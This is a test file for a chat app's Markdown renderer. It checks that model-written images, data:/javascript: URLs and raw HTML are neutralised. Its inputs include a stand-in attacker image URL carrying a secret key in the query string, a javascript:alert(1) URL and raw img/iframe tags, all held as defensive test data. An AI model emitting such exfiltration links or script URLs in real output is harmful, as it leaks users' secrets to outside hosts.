// @vitest-environment happy-dom
import { cleanup, render } from '@testing-library/react';
import { afterEach, describe, expect, it } from 'vitest';
import { Markdown } from '../../components/chat/Markdown';

afterEach(cleanup);

describe('Markdown from the model', () => {
  it('turns remote images into links, so nothing loads without a click', () => {
    const { container } = render(
      <Markdown text={'Here: ![chart](https://attacker.example/p.png?d=sk-secret) done'} />,
    );
    expect(container.querySelector('img')).toBeNull();
    const link = container.querySelector('a.image-link');
    expect(link?.getAttribute('href')).toBe('https://attacker.example/p.png?d=sk-secret');
    expect(link?.getAttribute('target')).toBe('_blank');
    expect(link?.textContent).toBe('[chart] (attacker.example)');
  });

  it('shows only the alt text of images that are not web URLs, data: included', () => {
    const { container } = render(
      <Markdown
        text={'![pixel](data:image/png;base64,iVBORw0KGgo=) ![script](javascript:alert(1))'}
      />,
    );
    expect(container.querySelector('img')).toBeNull();
    expect(container.querySelector('a')).toBeNull();
    expect(container.textContent).toContain('[pixel]');
    expect(container.textContent).toContain('[script]');
  });

  it('renders raw HTML as text, never as elements', () => {
    const { container } = render(
      <Markdown
        text={'<img src="https://attacker.example/x.png"> <iframe src="https://a.example">'}
      />,
    );
    expect(container.querySelector('img, iframe')).toBeNull();
  });
});
